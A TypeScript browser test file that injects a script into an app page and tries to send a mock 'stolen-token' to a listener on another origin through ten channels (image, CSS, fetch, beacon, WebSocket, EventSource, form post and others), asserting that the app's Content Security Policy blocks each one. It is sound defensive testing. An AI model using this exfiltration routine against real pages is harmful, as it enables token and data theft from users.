/**
 * A script injected into the app page (web mode, real Chromium) tries every way out it has — image, CSS
 * background, fetch, beacon, form, window.open, a link with a target, link prefetch, WebSocket,
 * EventSource — towards a listener on another origin (a loopback server on another port counts as one),
 * and none of them reaches it. The same listener is reached from a page that is not the app's, so it
 * could have seen them.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appInBrowser } from './helpers/app.ts';

const app = appInBrowser();
const seen: string[] = [];
let listener: http.Server;
let elsewhere = '';

beforeAll(async () => {
  listener = http.createServer((req, res) => {
    seen.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('ok');
  });
  listener.on('upgrade', (req, socket) => {
    seen.push(`upgrade ${req.url ?? ''}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  elsewhere = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
});
afterAll(async () => {
  listener.closeAllConnections();
  await new Promise((resolve) => listener.close(resolve));
});

/** The injected script: every channel at once; answers which CSP directives refused what. */
async function tryEveryWayOut(target: string) {
  const violations: string[] = [];
  document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
  const secret = 'stolen-token';
  const to = (channel: string) => `${target}/${channel}?t=${secret}`;
  const results: Record<string, string> = {};

  const img = new Image();
  img.src = to('img');
  document.body.append(img);

  const box = document.createElement('div');
  box.style.cssText = 'width:10px;height:10px';
  box.style.backgroundImage = `url("${to('css')}")`;
  document.body.append(box);

  results.fetch = await fetch(to('fetch'), { mode: 'no-cors' }).then(
    () => 'answered',
    () => 'refused',
  );
  results.beacon = String(navigator.sendBeacon(to('beacon'), secret));
  results.open = window.open(to('open'), '_blank') === null ? 'refused' : 'opened';

  const link = document.createElement('a');
  link.href = to('link');
  link.target = '_blank';
  document.body.append(link);
  link.click();

  const prefetch = document.createElement('link');
  prefetch.rel = 'prefetch';
  prefetch.href = to('prefetch');
  document.head.append(prefetch);

  try {
    const ws = new WebSocket(`${target.replace('http:', 'ws:')}/ws?t=${secret}`);
    results.websocket = await new Promise<string>((resolve) => {
      ws.onopen = () => resolve('opened');
      ws.onerror = () => resolve('refused');
    });
  } catch {
    results.websocket = 'refused';
  }
  const source = new EventSource(to('sse'));
  results.eventSource = await new Promise<string>((resolve) => {
    source.onopen = () => resolve('opened');
    source.onerror = () => resolve('refused');
  });
  source.close();

  const form = document.createElement('form');
  form.method = 'post';
  form.action = to('form');
  const field = document.createElement('input');
  field.name = 't';
  field.value = secret;
  form.append(field);
  document.body.append(form);
  form.submit();

  // Every attempt CSP refuses is refused before anything is sent and reported as a violation.
  const wanted = ['img-src', 'connect-src', 'form-action', 'default-src'];
  const until = (check: () => boolean) =>
    new Promise<void>((resolve) => {
      const look = () => (check() ? resolve() : requestAnimationFrame(look));
      look();
    });
  await until(() => wanted.every((d) => violations.includes(d)) && violations.length >= 8);
  return { results, violations, url: location.href };
}

describe('an injected script on the app page', () => {
  it('reaches no listener on another origin by any channel', async () => {
    const page = await app.browser.context.newPage();
    const popups: string[] = [];
    page.on('popup', (p) => popups.push(p.url()));
    await page.goto(app.web.url);
    await page.getByRole('tab', { name: 'Sign-in' }).waitFor();

    const outcome = await page.evaluate(tryEveryWayOut, elsewhere);
    expect(outcome.results).toEqual({
      fetch: 'refused',
      beacon: expect.any(String),
      open: 'refused',
      websocket: 'refused',
      eventSource: 'refused',
    });
    // img and CSS background (img-src); fetch, beacon, WebSocket, EventSource (connect-src); the form.
    expect(outcome.violations.filter((d) => d === 'img-src').length).toBeGreaterThanOrEqual(2);
    expect(outcome.violations.filter((d) => d === 'connect-src').length).toBeGreaterThanOrEqual(4);
    expect(outcome.violations).toContain('form-action');
    // The prefetch: no prefetch-src any more, so default-src 'none' refuses it.
    expect(outcome.violations).toContain('default-src');
    expect(outcome.url).toBe(page.url());
    expect(popups).toEqual([]);

    // The listener was there all along: a page that is not the app's reaches it at once.
    const control = await app.browser.context.newPage();
    await control.goto(`${elsewhere}/control`);
    await control.close();
    expect(seen).toEqual(['/control']);
    await page.close();
  });
});
